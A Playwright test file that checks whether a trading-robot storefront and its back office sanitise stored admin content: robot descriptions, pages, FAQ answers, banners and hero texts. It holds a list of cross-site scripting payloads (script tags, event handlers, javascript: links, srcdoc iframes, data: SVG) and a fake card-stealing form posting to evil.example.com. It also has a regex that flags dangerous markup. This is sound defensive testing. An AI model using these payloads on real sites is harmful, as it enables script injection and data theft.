import type { Locator, Page } from '@playwright/test';
import { expect, test } from './fixtures.js';

// What administrators write (robot descriptions, Copy Trade and Update pages, FAQ answers, banners,
// hero texts) reaches every visitor's browser. The pages' Content-Security-Policy already forbids
// inline scripts, so with it an unsafe page would still look safe here; these tests switch the CSP
// off to check that the pages themselves never let markup run, whatever was stored.
//
// Every payload is stored for real, through the back office's forms and its API (no intercepted
// answers): the server sanitises what it stores, the storefront sanitises again what it shows.
test.use({ bypassCSP: true });

/** Each payload, if it ever ran, would record its number in window.__pwned. */
const HOSTILE_HTML = [
  '<h2>Genuine heading</h2>',
  '<script>window.__pwned = 1</script>',
  '<img src="/does-not-exist.png" onerror="window.__pwned = 2" alt="broken">',
  '<a href="javascript:window.__pwned = 3">script link</a>',
  '<a href="  JaVaScRiPt:window.__pwned = 4">spaced script link</a>',
  '<iframe src="javascript:parent.__pwned = 5"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned = 6</script>"></iframe>',
  '<svg><script>window.__pwned = 7</script></svg>',
  '<svg onload="window.__pwned = 8"></svg>',
  '<math><mi><style><img src=x onerror="window.__pwned = 9"></style></mi></math>',
  '<form action="https://evil.example.com/steal"><input name="card"><button>Pay</button></form>',
  '<style>main { display: none }</style>',
  '<object data="javascript:window.__pwned = 10"></object>',
  '<embed src="javascript:window.__pwned = 11">',
  '<p onclick="window.__pwned = 12" onmouseover="window.__pwned = 13" style="position: fixed; inset: 0; z-index: 99">Trap</p>',
  '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22window.__pwned=14%22/%3E" alt="data image">',
  '<p class="ql-align-center fixed inset-0">Centred</p>',
  '<p style="text-align: right">Right-aligned</p>',
  '<p><a href="https://www.example.com/guide">External guide</a> <a href="/FAQ">Our FAQ</a> <a href="mailto:help@example.com">Mail us</a></p>',
  '<p><img src="/images/robot-fallback.svg" alt="Allowed picture"></p>',
].join('');

async function expectNothingRan(page: Page) {
  expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
}

/** The rendered content keeps the editor's formats and nothing that can run or take over the page. */
async function expectSanitised(content: Locator) {
  await expect(content.getByRole('heading', { name: 'Genuine heading' })).toBeVisible();
  for (const selector of ['script', 'iframe', 'svg', 'math', 'form', 'input', 'button', 'style', 'object', 'embed']) {
    await expect(content.locator(selector), selector).toHaveCount(0);
  }
  const handlers = await content.evaluate((root) =>
    [...root.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes].map((attribute) => attribute.name).filter((name) => name.startsWith('on')),
    ),
  );
  expect(handlers).toEqual([]);
  const hrefs = await content.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  expect(hrefs).toEqual([null, null, 'https://www.example.com/guide', '/FAQ', 'mailto:help@example.com']);

  const external = content.getByRole('link', { name: 'External guide' });
  await expect(external).toHaveAttribute('target', '_blank');
  await expect(external).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(content.getByRole('link', { name: 'Our FAQ' })).not.toHaveAttribute('target', /.*/);
  await expect(content.getByRole('link', { name: 'Mail us' })).not.toHaveAttribute('target', /.*/);

  await expect(content.getByText('Trap')).not.toHaveAttribute('style', /.*/);
  await expect(content.getByText('Centred')).toHaveAttribute('class', 'ql-align-center');
  await expect(content.getByText('Right-aligned')).toHaveAttribute('style', 'text-align: right');
  await expect(content.getByRole('img', { name: 'Allowed picture' })).toHaveAttribute(
    'src',
    '/images/robot-fallback.svg',
  );
  await expect(content.getByRole('img', { name: 'data image' })).toHaveCount(0);

  // Clicking what used to be script links does nothing.
  await content.getByText('script link', { exact: true }).click();
  await content.getByText('Trap').click();
}

/** What was stored keeps neither script links nor inline (data:) images. */
function expectNothingDangerousStored(stored: string) {
  expect(stored).not.toMatch(/javascript:/i);
  expect(stored).not.toMatch(/data:/i);
  expect(stored).not.toMatch(/<script|onerror=|onload=|onclick=|<iframe|<svg|<math|<form|<object|<embed|<style/i);
}

test('Hostile HTML saved in the Copy Trade and Update pages is stored clean and shown without anything able to run', async ({
  page,
  adminRequest: api,
}) => {
  const before = await Promise.all(
    ['copy_trade', 'update'].map(async (slug) => (await api.get(`/api/pages/${slug}`)).json()),
  );
  const title = '<img src=x onerror="window.__pwned = 20">Hostile title';
  try {
    // Copy Trade through the back office's own form (raw HTML mode), Update through its API.
    await page.context().addCookies((await api.storageState()).cookies);
    await page.goto('/CopyTradeManagement');
    await page.getByRole('tabpanel', { name: 'English' }).getByLabel('Title').fill(title);
    await page.getByRole('button', { name: 'HTML', exact: true }).click();
    await page.getByRole('textbox', { name: 'HTML source' }).fill(HOSTILE_HTML);
    await page.getByRole('button', { name: 'Save Changes' }).click();
    await expect(page.getByText('Copy Trade content saved successfully!')).toBeVisible();
    await expectNothingRan(page);
    const both = (text: string) => ({ en: text, fr: text });
    const hostile = { title: both(title), content: both(HOSTILE_HTML) };
    expect((await api.put('/api/admin/pages/update', { data: hostile })).status()).toBe(200);

    for (const slug of ['copy_trade', 'update']) {
      const { content } = (await (await api.get(`/api/pages/${slug}`)).json()) as { content: Record<string, string> };
      for (const language of ['en', 'fr']) expectNothingDangerousStored(content[language]!);
    }
    for (const path of ['/CopyTrade', '/Update']) {
      await page.goto(path);
      const main = page.getByRole('main');
      // A title is text: its markup is shown, never parsed.
      await expect(main.getByRole('heading', { level: 1 })).toHaveText(title);
      await expectSanitised(main.locator('h1 + div'));
      await expectNothingRan(page);
    }
  } finally {
    for (const [index, slug] of ['copy_trade', 'update'].entries()) {
      if (before[index])
        await api.put(`/api/admin/pages/${slug}`, {
          data: { title: before[index].title, content: before[index].content },
        });
    }
  }
});

test('Hostile HTML in a robot description is stored clean and shown without anything able to run', async ({
  page,
  adminRequest: api,
}) => {
  const robot = {
    name: 'Hostile Robot',
    description: { en: HOSTILE_HTML, fr: HOSTILE_HTML },
    price: 10,
    trading_pair: '<b onmouseover="window.__pwned = 31">EURUSD</b>',
    features: { en: ['<img src=x onerror="window.__pwned = 32">'], fr: [] },
    status: 'active',
  };
  // An image address that is not a path or an http(s) address is refused outright.
  expect(
    (await api.post('/api/admin/robots', { data: { ...robot, image_url: 'javascript:window.__pwned = 30' } })).status(),
  ).toBe(400);
  const created = await api.post('/api/admin/robots', { data: robot });
  expect(created.status()).toBe(201);
  const { id, description } = (await created.json()) as { id: string; description: { en: string; fr: string } };
  try {
    expectNothingDangerousStored(description.en);
    expectNothingDangerousStored(description.fr);
    await page.goto(`/RobotDetail?robotId=${id}`);
    const main = page.getByRole('main');
    await expect(main.getByRole('heading', { level: 1, name: 'Hostile Robot' })).toBeVisible();
    await expectSanitised(main.getByRole('region', { name: 'Description' }).locator('h2 + div'));
    // Plain-text fields stay text.
    const specs = main.getByRole('region', { name: 'Technical specifications' });
    await expect(specs.getByText('<b onmouseover="window.__pwned = 31">EURUSD</b>')).toBeVisible();
    await expect(specs.getByText('<img src=x onerror="window.__pwned = 32">')).toBeVisible();
    await expect(main.getByRole('img', { name: 'Hostile Robot' })).toHaveAttribute('src', '/images/robot-fallback.svg');
    await expectNothingRan(page);
  } finally {
    await api.delete(`/api/admin/robots/${id}`);
  }
});

test('FAQ answers lose their markup, and banner addresses that could inject frames are refused', async ({
  page,
  adminRequest: api,
}) => {
  const created = await api.post('/api/admin/faqs', {
    data: {
      question: { en: '<b>Bold?</b>', fr: '' },
      answer: {
        en: 'Plain answer <img src=x onerror="window.__pwned = 40">\n<script>window.__pwned = 41</script>Second line',
        fr: '',
      },
    },
  });
  expect(created.status()).toBe(201);
  const faq = (await created.json()) as { id: string; answer: { en: string; fr: string } };
  try {
    expect(faq.answer).toEqual({ en: 'Plain answer \nSecond line', fr: '' });
    await page.goto('/FAQ');
    const question = page.getByRole('button', { name: '<b>Bold?</b>' });
    await question.click();
    const answer = page.getByRole('region', { name: '<b>Bold?</b>' });
    await expect(answer).toContainText('Plain answer');
    await expect(answer).toContainText('Second line');
    await expect(answer.locator('img, script')).toHaveCount(0);
    await expectNothingRan(page);

    for (const banner of [
      { type: 'youtube', content_url: 'javascript:window.__pwned=42//youtu.be/AAAAAAAAAAA' },
      { type: 'youtube', content_url: 'https://evil.example.com/embed/AAAAAAAAAAA' },
      { type: 'youtube', content_url: 'https://youtu.be/AAAAAAAAAA"onload="window.__pwned=43' },
      { type: 'image', content_url: 'javascript:window.__pwned=44' },
      { type: 'image', content_url: 'data:image/svg+xml,%3Csvg onload=%22window.__pwned=45%22/%3E' },
    ]) {
      const refused = await api.post('/api/admin/banners', { data: { title: { en: 'Hostile banner' }, ...banner } });
      expect(refused.status(), banner.content_url).toBe(400);
    }
    // Home, reached from another page so that it asks the API: still only the demo's two slides.
    await page.goto('/FAQ');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Catalog' }).click();
    const carousel = page.getByRole('region', { name: 'Featured' });
    await expect(carousel.getByRole('group', { name: '1 of 2' })).toBeVisible();
    await expect(carousel.locator('iframe[src^="javascript"], iframe[src*="evil"]')).toHaveCount(0);
    await expectNothingRan(page);
  } finally {
    await api.delete(`/api/admin/faqs/${faq.id}`);
  }
});

test('Hero texts an administrator stores with markup are shown as text', async ({ page, adminRequest: admin }) => {
  const before = (await (await admin.get('/api/admin/settings')).json()) as Record<
    'hero_title' | 'hero_description',
    { en: string; fr: string }
  >;
  const title = '<img src=x onerror="window.__pwned = 50">Robots</title><script>window.__pwned = 51</script>';
  const description = '<script>window.__pwned = 52</script>"><svg onload="window.__pwned = 53">';
  try {
    const saved = await admin.patch('/api/admin/settings', {
      data: {
        values: { hero_title: { en: title, fr: title }, hero_description: { en: description, fr: description } },
      },
    });
    expect(saved.status()).toBe(200);

    await page.goto('/');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
    await expect(page.getByText(description)).toBeVisible();
    await expect(page.getByRole('main').locator('script, svg[onload], img[onerror]')).toHaveCount(0);
    await expectNothingRan(page);
  } finally {
    await admin.patch('/api/admin/settings', {
      data: { values: { hero_title: before.hero_title, hero_description: before.hero_description } },
    });
  }
});
